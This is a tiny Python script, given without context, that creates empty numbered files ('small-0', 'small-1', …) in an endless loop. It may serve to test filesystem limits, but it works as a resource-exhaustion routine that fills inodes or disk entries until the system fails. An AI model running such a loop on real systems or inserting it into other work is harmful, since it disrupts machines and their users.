n = 0
while True:
    open(f"small-{n}", "w").close()
    n += 1
